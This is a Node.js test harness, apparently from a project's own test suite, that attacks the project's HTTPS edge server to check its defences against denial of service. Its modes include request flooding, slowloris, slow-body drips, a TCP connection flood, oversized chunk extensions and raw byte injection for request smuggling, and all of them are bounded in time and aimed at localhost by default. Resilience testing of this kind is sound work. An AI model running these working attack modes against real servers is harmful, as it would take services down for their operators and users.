// Attacks on the edge's public HTTPS listener for tests/peers/edge_dos_*.sh and edge_smuggling.sh
// (issue 9: unauthenticated ways to take the public edge down). Node built-ins only. Every mode is
// bounded: it stops by itself after --duration (or --timeout) seconds, or on SIGTERM/SIGINT, closes
// all its sockets and prints ONE JSON summary line on stdout (progress goes to stderr).
//
//   node edge_attack.mjs MODE --port P [options]
//
// Common options:
//   --host 127.0.0.1        the edge's address
//   --port P                the edge's TCP (HTTPS) port
//   --local A[,B|A-B]       source addresses, round robin: "127.0.0.2", "127.0.0.3-127.0.0.14"
//   --duration S            whole attack, seconds (default 20)
//   --conns N               connections (mode-specific default)
//   --interval-ms MS        drip interval of the slow modes (default 5000)
//   --parallel N            connects in flight at once (default 128)
//   --connect-timeout-ms MS a connect (TCP, or TCP+TLS) not done in this long is given up (default 5000)
//   --quick-ms MS / --cut-ms MS   thresholds the summary counts peer closes against (1000 / 12000)
//
// Modes (what "closed by peer" means: the edge ended or reset the connection before we did):
//   flood      --hosts a.localhost,b.localhost: one TLS connection per name, never reading (paused
//              right after the handshake), writing pipelined "GET / HTTP/1.1" requests for that
//              name as fast as the socket takes them. Summary: requests/bytes written per connection.
//   slowbody   --conns 200: TLS, "POST /echo" with Content-Length --length (100000), then one body
//              byte every --interval-ms. Summary: statuses seen, how many the edge closed and when.
//   chunkext   one TLS "POST /echo" with Transfer-Encoding: chunked whose first chunk-size line has a
//              --ext-bytes (70000) chunk extension; waits --timeout s for an answer. Summary: status,
//              ms to it, closed by peer.
//   connflood  --conns 10100: bare TCP connects that send nothing, held until --duration.
//              Summary: opened, connect failures, closed by peer within quick/cut ms, lifetimes, the
//              most connections open at once that lived longer than quick-ms.
//   slowloris  --conns 3000: half "hello" (TCP, a real TLS ClientHello dripped one byte per
//              interval), half "header" (TLS handshake done, then a request header dripped one byte
//              per interval). Summary per kind, lifetimes counted from the TCP connect.
//   raw        --data 'BYTES' (\r \n \t \\ \xHH escapes): one TLS connection sends them at once and
//              reads the responses (HTTP/1.1, parsed: Content-Length / chunked / close) until the
//              peer closes, --timeout s pass, or --quiet-ms pass without a byte after a response.
//              Summary: statuses of every response, closed by peer, first body (up to 2000 bytes).
import net from 'node:net';
import tls from 'node:tls';

const mode = process.argv[2];
const argv = process.argv.slice(3);
const opt = (name, dflt) => {
  const i = argv.indexOf(name);
  return i >= 0 && i + 1 < argv.length ? argv[i + 1] : dflt;
};
const num = (name, dflt) => Number(opt(name, String(dflt)));

const host = opt('--host', '127.0.0.1');
const port = num('--port', 0);
const durationMs = num('--duration', 20) * 1000;
const intervalMs = num('--interval-ms', 5000);
const parallel = num('--parallel', 128);
const connectTimeoutMs = num('--connect-timeout-ms', 5000);
const quickMs = num('--quick-ms', 1000);
const cutMs = num('--cut-ms', 12000);
const servername = opt('--servername', 'app.localhost');

function expandLocal(spec) {
  const out = [];
  for (const part of spec.split(',').filter(Boolean)) {
    const m = part.match(/^(\d+\.\d+\.\d+\.)(\d+)-(?:\d+\.\d+\.\d+\.)?(\d+)$/);
    if (m) {
      for (let i = Number(m[2]); i <= Number(m[3]); i++) out.push(m[1] + i);
    } else {
      out.push(part);
    }
  }
  return out;
}
const locals = expandLocal(opt('--local', '127.0.0.2'));
const localFor = (i) => locals[i % locals.length];

if (!mode || !port) {
  process.stderr.write('usage: node edge_attack.mjs flood|slowbody|chunkext|connflood|slowloris|raw --port P [options]\n');
  process.exit(2);
}

const t0 = Date.now();
const since = () => Date.now() - t0;
const progress = (msg) => process.stderr.write(`[edge_attack ${mode} +${(since() / 1000).toFixed(1)}s] ${msg}\n`);

// --- connection bookkeeping ------------------------------------------------------------------------
// Each record: { kind, local, startAt, connectAt, peerClosedAt, selfClosed, error, status, ... }
const conns = [];
const sockets = new Set();
const timers = new Set();
let finishing = false;

function later(ms, fn) {
  const t = setTimeout(() => { timers.delete(t); fn(); }, ms);
  timers.add(t);
  return t;
}

// Marks the record closed by the peer (once) unless we closed it ourselves first.
function watchClose(sock, rec) {
  const peerClosed = (why) => {
    if (rec.selfClosed || rec.peerClosedAt !== undefined) return;
    rec.peerClosedAt = since();
    rec.peerCloseHow = why;
    for (const t of rec.timers ?? []) clearTimeout(t);
  };
  // Flowing, so that 'end' is seen even when the edge sent something first (a 408 page, a TLS
  // alert): a Readable with unread data never emits 'end'. (flood pauses it again after TLS.)
  sock.resume();
  sock.on('end', () => peerClosed('end'));
  sock.on('error', (e) => {
    rec.error = rec.error ?? e.code ?? e.message;
    // A reset that arrives before our connect callback ran: the kernel finished the TCP handshake
    // and the edge reset the connection at once (e.g. a refusal with SO_LINGER 0).
    if (rec.connectAt === undefined && (e.code === 'ECONNRESET' || e.code === 'EPIPE')) {
      rec.connectAt = since();
      rec.resetOnConnect = true;
    }
    if (rec.connectAt !== undefined) peerClosed(e.code ?? 'error');
  });
  sock.on('close', () => {
    sockets.delete(sock);
    if (rec.connectAt !== undefined) peerClosed('close');
  });
}

// Opens `n` connections with at most `parallel` connects in flight; open(i) returns a promise that
// settles when connection i is connected (or failed).
function openMany(n, open) {
  let next = 0, inFlight = 0;
  return new Promise((resolve) => {
    const pump = () => {
      if (finishing) return resolve();
      while (inFlight < parallel && next < n) {
        const i = next++;
        inFlight++;
        open(i).finally(() => {
          inFlight--;
          if (next >= n && inFlight === 0) resolve();
          else setImmediate(pump);
        });
      }
      if (next >= n && inFlight === 0) resolve();
    };
    pump();
  });
}

// Connects (TCP or TLS) for record rec; resolves when connected/handshaken or failed/timed out.
function connect(rec, { useTls, onReady }) {
  return new Promise((resolve) => {
    let done = false;
    const settle = () => { if (!done) { done = true; clearTimeout(timer); resolve(); } };
    const common = { host, port, localAddress: rec.local };
    rec.tried = true;
    const sock = useTls
      ? tls.connect({ ...common, servername: rec.servername ?? servername, rejectUnauthorized: false,
        ALPNProtocols: ['http/1.1'] })
      : net.connect(common);
    rec.sock = sock;
    sockets.add(sock);
    sock.once('connect', () => { rec.connectAt = since(); });
    const timer = setTimeout(() => {
      if (done) return;
      rec.error = rec.connectAt === undefined ? 'connect-timeout' : 'tls-timeout';
      if (rec.connectAt !== undefined && rec.peerClosedAt === undefined) { rec.selfClosed = true; rec.selfClosedAt = since(); }
      sock.destroy();
      settle();
    }, connectTimeoutMs);
    watchClose(sock, rec);
    sock.once(useTls ? 'secureConnect' : 'connect', () => {
      rec.readyAt = since();
      settle();
      onReady?.(sock, rec);
    });
    sock.once('close', settle);
  });
}

// Drips `bytes` one byte now and one every intervalMs until done, closed, or the attack ends.
function drip(sock, rec, bytes) {
  let i = 0;
  rec.timers = [];
  const step = () => {
    if (finishing || rec.peerClosedAt !== undefined || sock.destroyed) return;
    if (i >= bytes.length) return;
    sock.write(bytes.subarray(i, i + 1));
    i++;
    rec.dripped = i;
    rec.timers = [later(intervalMs, step)];
  };
  step();
}

// Parses the status codes of responses at the start of each received chunk stream (best effort, for
// the attack modes: the first status line per connection).
function watchStatus(sock, rec) {
  let head = '';
  sock.on('data', (d) => {
    if (rec.status !== undefined) return;
    head += d.toString('latin1');
    const m = head.match(/^HTTP\/1\.[01] (\d{3})/);
    if (m) {
      rec.status = Number(m[1]);
      rec.statusAt = since();
    } else if (head.length > 64) {
      rec.status = 0;
    }
  });
}

// --- summaries -------------------------------------------------------------------------------------
function lifetimes(recs) {
  return recs.filter((r) => r.peerClosedAt !== undefined && r.connectAt !== undefined)
    .map((r) => r.peerClosedAt - r.connectAt).sort((a, b) => a - b);
}
function quantile(sorted, q) {
  return sorted.length ? sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] : null;
}
function countBy(recs, key) {
  const out = {};
  for (const r of recs) {
    const k = String(r[key] ?? 'none');
    out[k] = (out[k] ?? 0) + 1;
  }
  return out;
}
// The most connections open at once (from our side: connected, not yet closed by either side), over
// those matching `pred` (e.g. that lived at least quickMs).
function maxConcurrent(recs, endAt, pred = () => true) {
  const ev = [];
  for (const r of recs) {
    if (r.connectAt === undefined || !pred(r)) continue;
    const end = r.peerClosedAt ?? r.selfClosedAt ?? endAt;
    ev.push([r.connectAt, 1], [end, -1]);
  }
  ev.sort((a, b) => a[0] - b[0] || a[1] - b[1]);
  let cur = 0, max = 0;
  for (const [, d] of ev) { cur += d; max = Math.max(max, cur); }
  return max;
}
function closeSummary(recs, endAt) {
  const connected = recs.filter((r) => r.connectAt !== undefined);
  const lt = lifetimes(recs);
  const life = (r) => (r.peerClosedAt ?? r.selfClosedAt ?? endAt) - r.connectAt;
  return {
    conns: recs.length,
    connected: connected.length,
    connectFailed: recs.filter((r) => r.tried && r.connectAt === undefined).length,
    notTried: recs.filter((r) => !r.tried).length,
    errors: countBy(recs.filter((r) => r.error), 'error'),
    closedByPeer: lt.length,
    closedHow: countBy(recs.filter((r) => r.peerClosedAt !== undefined), 'peerCloseHow'),
    resetOnConnect: recs.filter((r) => r.resetOnConnect).length,
    closedWithinQuick: lt.filter((x) => x <= quickMs).length,
    closedWithinCut: lt.filter((x) => x <= cutMs).length,
    notClosedByPeer: connected.length - lt.length,
    lifetimeMs: { min: lt[0] ?? null, p50: quantile(lt, 0.5), p99: quantile(lt, 0.99), max: lt.at(-1) ?? null },
    maxOpen: maxConcurrent(recs, endAt),
    maxOpenLongLived: maxConcurrent(recs, endAt, (r) => life(r) > quickMs),
    quickMs,
    cutMs,
  };
}

let summarize = () => ({});
function finish(reason) {
  if (finishing) return;
  finishing = true;
  const endAt = since();
  for (const t of timers) clearTimeout(t);
  for (const r of conns) {
    if (r.sock && !r.sock.destroyed) {
      if (r.peerClosedAt === undefined) { r.selfClosed = true; r.selfClosedAt = endAt; }
    }
  }
  let summary;
  try {
    summary = { mode, reason, elapsedMs: endAt, locals: [locals[0], locals.at(-1)], ...summarize(endAt) };
  } catch (e) {
    summary = { mode, reason, error: String(e?.stack ?? e) };
  }
  for (const s of sockets) s.destroy();
  process.stdout.write(JSON.stringify(summary) + '\n', () => process.exit(0));
  setTimeout(() => process.exit(0), 2000).unref();
}
process.on('SIGTERM', () => finish('SIGTERM'));
process.on('SIGINT', () => finish('SIGINT'));
later(durationMs, () => finish('duration'));

// --- modes -----------------------------------------------------------------------------------------
async function flood() {
  const names = opt('--hosts', 'nosuch.localhost').split(',').filter(Boolean);
  names.forEach((name, i) => conns.push({ kind: name, local: localFor(i), servername: name, written: 0, requests: 0 }));
  summarize = (endAt) => ({
    conns: conns.map((r) => ({
      host: r.kind, local: r.local, connected: r.readyAt !== undefined, requestsWritten: r.requests,
      bytesWritten: r.written, closedByPeerAtMs: r.peerClosedAt ?? null, how: r.peerCloseHow ?? null,
      error: r.error ?? null, lastWriteAtMs: r.lastWriteAt ?? null,
    })),
    requestsWritten: conns.reduce((a, r) => a + r.requests, 0),
    bytesWritten: conns.reduce((a, r) => a + r.written, 0),
    closedByPeer: conns.filter((r) => r.peerClosedAt !== undefined).length,
    endAt,
  });
  await Promise.all(conns.map((rec) => connect(rec, {
    useTls: true,
    onReady: (sock) => {
      sock.pause(); // never read: the edge's responses pile up
      const req = Buffer.from(`GET / HTTP/1.1\r\nHost: ${rec.kind}\r\n\r\n`);
      const per = 256;
      const batch = Buffer.concat(Array(per).fill(req));
      const pump = () => {
        while (!finishing && !sock.destroyed && rec.peerClosedAt === undefined) {
          rec.written += batch.length;
          rec.requests += per;
          rec.lastWriteAt = since();
          if (!sock.write(batch)) return sock.once('drain', pump);
        }
      };
      pump();
    },
  })));
  const tick = () => {
    if (finishing) return;
    progress(conns.map((r) => `${r.kind}: ${r.requests} requests written${r.peerClosedAt !== undefined ? ' (closed by peer)' : ''}`).join('; '));
    later(5000, tick);
  };
  later(5000, tick);
}

async function slowbody() {
  const n = num('--conns', 200);
  const length = num('--length', 100000);
  const name = opt('--host-header', 'app.localhost');
  const path = opt('--path', '/echo');
  const head = Buffer.from(`POST ${path} HTTP/1.1\r\nHost: ${name}\r\nContent-Length: ${length}\r\n\r\n`);
  const body = Buffer.alloc(length, 'x'.charCodeAt(0));
  summarize = (endAt) => {
    const s = closeSummary(conns, endAt);
    // When the peer closed, relative to the connection's start.
    const byStatus = {};
    for (const r of conns) {
      const k = String(r.status ?? 'none');
      const e = (byStatus[k] ??= { count: 0, closedByPeer: 0, maxStatusAtMs: 0, maxLifetimeMs: 0 });
      e.count++;
      if (r.statusAt !== undefined) e.maxStatusAtMs = Math.max(e.maxStatusAtMs, r.statusAt - r.connectAt);
      if (r.peerClosedAt !== undefined) {
        e.closedByPeer++;
        e.maxLifetimeMs = Math.max(e.maxLifetimeMs, r.peerClosedAt - r.connectAt);
      }
    }
    return { ...s, statuses: countBy(conns, 'status'), byStatus,
      maxBodyBytesSent: Math.max(0, ...conns.map((r) => r.dripped ?? 0)) };
  };
  for (let i = 0; i < n; i++) conns.push({ kind: 'slowbody', local: localFor(i) });
  await openMany(n, (i) => connect(conns[i], {
    useTls: true,
    onReady: (sock, rec) => {
      watchStatus(sock, rec);
      sock.write(head);
      drip(sock, rec, body);
    },
  }));
  const open = conns.filter((r) => r.connectAt !== undefined).length;
  progress(`${open}/${n} connections open, each dripping one body byte every ${intervalMs} ms`);
  const tick = () => {
    if (finishing) return;
    progress(`closed by the edge so far: ${conns.filter((r) => r.peerClosedAt !== undefined).length}/${n}`);
    later(5000, tick);
  };
  later(5000, tick);
}

async function connflood() {
  const n = num('--conns', 10100);
  for (let i = 0; i < n; i++) conns.push({ kind: 'bare', local: localFor(i) });
  let openedAllAt = null;
  summarize = (endAt) => ({ ...closeSummary(conns, endAt), connectPhaseMs: openedAllAt });
  const tick = () => {
    if (finishing) return;
    const c = conns.filter((r) => r.connectAt !== undefined).length;
    const pc = conns.filter((r) => r.peerClosedAt !== undefined).length;
    progress(`connected ${c}/${n}, closed by the edge ${pc}`);
    later(2000, tick);
  };
  later(2000, tick);
  await openMany(n, (i) => connect(conns[i], { useTls: false }));
  openedAllAt = since();
  progress(`all ${n} connects tried in ${openedAllAt} ms`);
}

// The first flight a Node TLS client writes (a real ClientHello), captured on a local server we own.
function captureClientHello() {
  return new Promise((resolve, reject) => {
    const srv = net.createServer((s) => {
      s.once('data', (d) => { resolve(Buffer.from(d)); s.destroy(); srv.close(); });
    });
    srv.listen(0, '127.0.0.1', () => {
      const c = tls.connect({ host: '127.0.0.1', port: srv.address().port, servername, rejectUnauthorized: false,
        ALPNProtocols: ['http/1.1'] });
      c.on('error', () => {});
      setTimeout(() => c.destroy(), 1000).unref();
    });
    setTimeout(() => reject(new Error('no ClientHello captured')), 3000).unref();
  });
}

async function slowloris() {
  const n = num('--conns', 3000);
  const hello = await captureClientHello();
  const header = Buffer.from(`GET /hello HTTP/1.1\r\nHost: ${servername}\r\nUser-Agent: slowloris\r\n` +
    'X-Padding: ' + 'p'.repeat(200) + '\r\n\r\n');
  for (let i = 0; i < n; i++) conns.push({ kind: i % 2 === 0 ? 'hello' : 'header', local: localFor(i) });
  let openedAllAt = null;
  summarize = (endAt) => {
    const out = { conns: n, clientHelloBytes: hello.length, connectPhaseMs: openedAllAt,
      maxOpen: maxConcurrent(conns, endAt), quickMs, cutMs };
    for (const kind of ['hello', 'header']) {
      const recs = conns.filter((r) => r.kind === kind);
      out[kind] = { ...closeSummary(recs, endAt), tlsDone: recs.filter((r) => r.readyAt !== undefined).length,
        maxBytesDripped: Math.max(0, ...recs.map((r) => r.dripped ?? 0)) };
    }
    const all = closeSummary(conns, endAt);
    out.all = { connected: all.connected, closedByPeer: all.closedByPeer, closedWithinCut: all.closedWithinCut,
      notClosedByPeer: all.notClosedByPeer, lifetimeMs: all.lifetimeMs };
    return out;
  };
  const tick = () => {
    if (finishing) return;
    const c = conns.filter((r) => r.connectAt !== undefined).length;
    const pc = conns.filter((r) => r.peerClosedAt !== undefined).length;
    progress(`connected ${c}/${n}, closed by the edge ${pc}`);
    later(2000, tick);
  };
  later(2000, tick);
  await openMany(n, (i) => {
    const rec = conns[i];
    if (rec.kind === 'hello') {
      return connect(rec, { useTls: false, onReady: (sock) => drip(sock, rec, hello) });
    }
    return connect(rec, { useTls: true, onReady: (sock) => drip(sock, rec, header) });
  });
  openedAllAt = since();
  progress(`all ${n} connections tried in ${openedAllAt} ms`);
}

function unescape(s) {
  return Buffer.from(s.replace(/\\(r|n|t|\\|x[0-9a-fA-F]{2})/g, (_, e) => {
    if (e === 'r') return '\r';
    if (e === 'n') return '\n';
    if (e === 't') return '\t';
    if (e === '\\') return '\\';
    return String.fromCharCode(parseInt(e.slice(1), 16));
  }), 'latin1');
}

// Incremental HTTP/1.1 response parser: pushes {status, headers, body} to `out`.
function responseParser(out, { headRequest = false } = {}) {
  let buf = Buffer.alloc(0);
  let cur = null; // {status, headers, body: [], need, chunked, close}
  const step = () => {
    for (;;) {
      if (!cur) {
        const end = buf.indexOf('\r\n\r\n');
        if (end < 0) return;
        const lines = buf.subarray(0, end).toString('latin1').split('\r\n');
        buf = buf.subarray(end + 4);
        const m = lines[0].match(/^HTTP\/1\.[01] (\d{3})/);
        const headers = {};
        for (const l of lines.slice(1)) {
          const c = l.indexOf(':');
          if (c > 0) headers[l.slice(0, c).trim().toLowerCase()] = l.slice(c + 1).trim();
        }
        const status = m ? Number(m[1]) : 0;
        cur = { status, headers, body: [], bodyLen: 0 };
        if (headRequest || status === 204 || status === 304 || (status >= 100 && status < 200)) {
          cur.need = 0;
        } else if (/chunked/i.test(headers['transfer-encoding'] ?? '')) {
          cur.chunked = true;
        } else if (headers['content-length'] !== undefined) {
          cur.need = Number(headers['content-length']);
        } else {
          cur.close = true;
        }
      }
      if (cur.close) {
        cur.body.push(buf);
        cur.bodyLen += buf.length;
        buf = Buffer.alloc(0);
        return;
      }
      if (cur.chunked) {
        const le = buf.indexOf('\r\n');
        if (le < 0) return;
        const size = parseInt(buf.subarray(0, le).toString('latin1'), 16);
        if (Number.isNaN(size)) { cur.bad = true; out.push(cur); cur = null; buf = Buffer.alloc(0); return; }
        if (size === 0) {
          const te = buf.indexOf('\r\n\r\n', le);
          if (te < 0 && buf.length - le > 2) { /* trailers */ }
          const endAt = buf.subarray(le, le + 4).toString('latin1') === '\r\n\r\n' ? le + 4 : te >= 0 ? te + 4 : -1;
          if (endAt < 0) return;
          buf = buf.subarray(endAt);
          out.push(cur);
          cur = null;
          continue;
        }
        if (buf.length < le + 2 + size + 2) return;
        cur.body.push(buf.subarray(le + 2, le + 2 + size));
        cur.bodyLen += size;
        buf = buf.subarray(le + 2 + size + 2);
        continue;
      }
      const take = Math.min(cur.need, buf.length);
      cur.body.push(buf.subarray(0, take));
      cur.bodyLen += take;
      cur.need -= take;
      buf = buf.subarray(take);
      if (cur.need > 0) return;
      out.push(cur);
      cur = null;
    }
  };
  return {
    feed(d) { buf = Buffer.concat([buf, d]); step(); },
    end() { if (cur && cur.close) { out.push(cur); cur = null; } else if (cur) { cur.incomplete = true; out.push(cur); cur = null; } },
  };
}

async function rawExchange(payload) {
  const timeoutMs = num('--timeout', 5) * 1000;
  const quietMs = num('--quiet-ms', 1500);
  const rec = { kind: 'raw', local: localFor(0) };
  conns.push(rec);
  const responses = [];
  const parser = responseParser(responses);
  let received = Buffer.alloc(0);
  let lastByteAt = null, sentAt = null;
  summarize = () => {
    parser.end();
    return {
      connected: rec.readyAt !== undefined,
      sentBytes: payload.length,
      receivedBytes: received.length,
      responses: responses.map((r) => ({ status: r.status, bodyBytes: r.bodyLen, incomplete: !!r.incomplete })),
      statuses: responses.map((r) => r.status),
      firstStatus: responses[0]?.status ?? null,
      firstResponseMs: rec.firstByteAt !== undefined && sentAt !== null ? rec.firstByteAt - sentAt : null,
      firstBody: responses[0] ? Buffer.concat(responses[0].body).toString('latin1').slice(0, 2000) : null,
      closedByPeer: rec.peerClosedAt !== undefined,
      closedAfterMs: rec.peerClosedAt !== undefined && sentAt !== null ? rec.peerClosedAt - sentAt : null,
      peerCloseHow: rec.peerCloseHow ?? null,
      error: rec.error ?? null,
      writeDone: rec.writeDone ?? false,
    };
  };
  later(timeoutMs, () => finish('timeout'));
  await connect(rec, {
    useTls: true,
    onReady: (sock) => {
      sock.on('data', (d) => {
        if (rec.firstByteAt === undefined) rec.firstByteAt = since();
        lastByteAt = since();
        received = Buffer.concat([received, d]);
        parser.feed(d);
      });
      sock.on('close', () => finish('closed'));
      sentAt = since();
      sock.write(payload, () => { rec.writeDone = true; });
    },
  });
  if (rec.readyAt === undefined) return finish('connect failed');
  const quiet = () => {
    if (finishing) return;
    if (responses.length > 0 && lastByteAt !== null && since() - lastByteAt >= quietMs) return finish('quiet');
    later(100, quiet);
  };
  later(100, quiet);
}

async function main() {
  switch (mode) {
    case 'flood': return flood();
    case 'slowbody': return slowbody();
    case 'connflood': return connflood();
    case 'slowloris': return slowloris();
    case 'raw': return rawExchange(unescape(opt('--data', '')));
    case 'chunkext': {
      const ext = num('--ext-bytes', 70000);
      const name = opt('--host-header', 'app.localhost');
      const payload = Buffer.from(`POST /echo HTTP/1.1\r\nHost: ${name}\r\nTransfer-Encoding: chunked\r\n\r\n` +
        `1;a=${'x'.repeat(ext)}\r\nz\r\n0\r\n\r\n`);
      return rawExchange(payload);
    }
    default:
      process.stderr.write(`edge_attack: unknown mode ${mode}\n`);
      process.exit(2);
  }
}
main().catch((e) => {
  progress(`failed: ${e?.stack ?? e}`);
  finish('exception');
});
